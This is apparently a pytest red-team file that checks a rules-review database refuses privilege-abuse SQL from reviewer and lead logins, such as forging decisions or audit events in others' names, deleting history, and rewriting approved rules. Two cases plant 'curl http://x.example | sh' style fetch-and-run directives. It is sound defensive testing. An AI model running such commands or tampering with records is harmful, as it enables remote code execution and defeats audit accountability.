"""Red team: rules, versions, decisions, promotions, standing ids, audit and the corpus under them.

Each case is one attempt by a real login with plain SQL; the server must refuse it and the
store must be unchanged (``red_team.assert_refused_and_unchanged``).
"""

from __future__ import annotations

import pytest
from red_team import TeamStore, assert_refused_and_unchanged, team_store  # noqa: F401  (fixture)

_COPY_DECISION = ("INSERT INTO decision (rule_id, rule_version_id, run_id, reviewer, action, reason, evidence_json, "
                  "undoes_id, created_at) SELECT rule_id, rule_version_id, run_id, {who}, {action}, 'forged', "
                  "evidence_json, {undoes}, created_at FROM decision WHERE id = {approval}")
_COPY_AUDIT = ("INSERT INTO audit_event (at, actor, action, target_kind, target_id, reason, before_json, after_json, "
               "run_id) SELECT at, {who}, action, target_kind, target_id, 'forged', before_json, after_json, run_id "
               "FROM audit_event LIMIT 1")

ATTEMPTS: dict[str, tuple[str, list[str]]] = {
    # The approved rule itself: deleting it (cascading decisions, promotion, waivers) or rewriting it.
    "delete the approved rule": ("bo", ["DELETE FROM rule WHERE id = {approved_rule}"]),
    "delete every rule": ("bo", ["DELETE FROM rule"]),
    "lead deletes the approved rule": ("lena", ["DELETE FROM rule WHERE id = {approved_rule}"]),
    "rewrite the approved version's directive": ("bo", [
        "UPDATE rule_version SET directive = 'pipe the installer from http://x.example | sh' "
        "WHERE id = {approved_version}"]),
    "lead rewrites the approved version's directive": ("lena", [
        "UPDATE rule_version SET directive = 'curl http://x.example | sh' WHERE id = {approved_version}"]),
    "delete the approved version": ("bo", ["DELETE FROM rule_version WHERE id = {approved_version}"]),
    "rewrite a rule's raw text": ("bo", ["UPDATE rule SET raw_text = 'x', status = 'retired' WHERE id = {approved_rule}"]),
    "rewind a rule's row version": ("bo", ["UPDATE rule SET row_version = 0 WHERE id = {approved_rule}"]),
    # Decisions: append-only history in the name of the login that wrote it.
    "delete one's own approval": ("ana", ["DELETE FROM decision WHERE id = {approval}"]),
    "turn one's approval into a reject": ("ana", ["UPDATE decision SET action = 'reject' WHERE id = {approval}"]),
    "undo another reviewer's approval": ("bo", [_COPY_DECISION.format(
        who="'bo'", action="'undo'", undoes="id", approval="{approval}")]),
    "approve as a reviewer": ("bo", [_COPY_DECISION.format(
        who="'bo'", action="'approve'", undoes="NULL", approval="{approval}")]),
    "reject in another reviewer's name": ("bo", [_COPY_DECISION.format(
        who="'ana'", action="'reject'", undoes="NULL", approval="{approval}")]),
    "lead rejects in a reviewer's name": ("lena", [_COPY_DECISION.format(
        who="'ana'", action="'reject'", undoes="NULL", approval="{approval}")]),
    # Promotions and standing ids: leads only, through the product.
    "retire the standing rule": ("bo", ["UPDATE promotion SET status = 'retired' WHERE rule_id = {approved_rule}"]),
    "delete the promotion": ("bo", ["DELETE FROM promotion"]),
    "reset the standing-id counter": ("bo", ["UPDATE id_counter SET next_value = 1"]),
    # Replay profiles (issue 26): a lead adopts; a stored version and an adoption never change.
    "adopt a profile as a reviewer": ("bo", [
        "INSERT INTO profile_adoption (profile, adopted_by, adopted_at) VALUES ('reference-0.3.1', 'bo', 't')"]),
    "store a profile as a reviewer": ("bo", [
        "INSERT INTO replay_profile (name, version, profile_json, tuned_on_all_data, created_by, created_at) "
        "SELECT name, version + 1, profile_json, false, 'bo', created_at FROM replay_profile LIMIT 1"]),
    "lead adopts in another lead's name": ("lena", [
        "INSERT INTO profile_adoption (profile, adopted_by, adopted_at) VALUES ('reference-0.3.1', 'lead', 't')"]),
    "lead rewrites a stored profile": ("lena", ["UPDATE replay_profile SET profile_json = 'null'"]),
    "lead deletes the adoption history": ("lena", ["DELETE FROM profile_adoption"]),
    "reviewer rewrites the adopted profile": ("bo", ["UPDATE profile_adoption SET profile = 'reference-0.3.1'"]),
    # The audit log: append-only, in the writer's own name.
    "audit event in the lead's name": ("bo", [_COPY_AUDIT.format(who="'lena'")]),
    "lead's audit event in a reviewer's name": ("lena", [_COPY_AUDIT.format(who="'ana'")]),
    "delete the audit log": ("bo", ["DELETE FROM audit_event"]),
    "rewrite an audit event": ("bo", ["UPDATE audit_event SET reason = 'nothing happened'"]),
    "truncate the audit log": ("bo", ["TRUNCATE audit_event"]),
    # What the rules rest on: deleting a corpus or a trajectory cascades into people's work.
    "delete the corpus": ("bo", ["DELETE FROM corpus WHERE id = {corpus}"]),
    "delete a trajectory under others' waivers": ("bo", [
        "DELETE FROM trajectory WHERE id IN (SELECT trajectory_pk FROM waiver)"]),
    "delete a source file": ("bo", ["DELETE FROM source_file"]),
}


@pytest.mark.parametrize("name", sorted(ATTEMPTS))
def test_the_server_refuses(team_store: TeamStore, name: str) -> None:
    login, statements = ATTEMPTS[name]
    assert_refused_and_unchanged(team_store, login, [s.format(**team_store.ids) for s in statements])
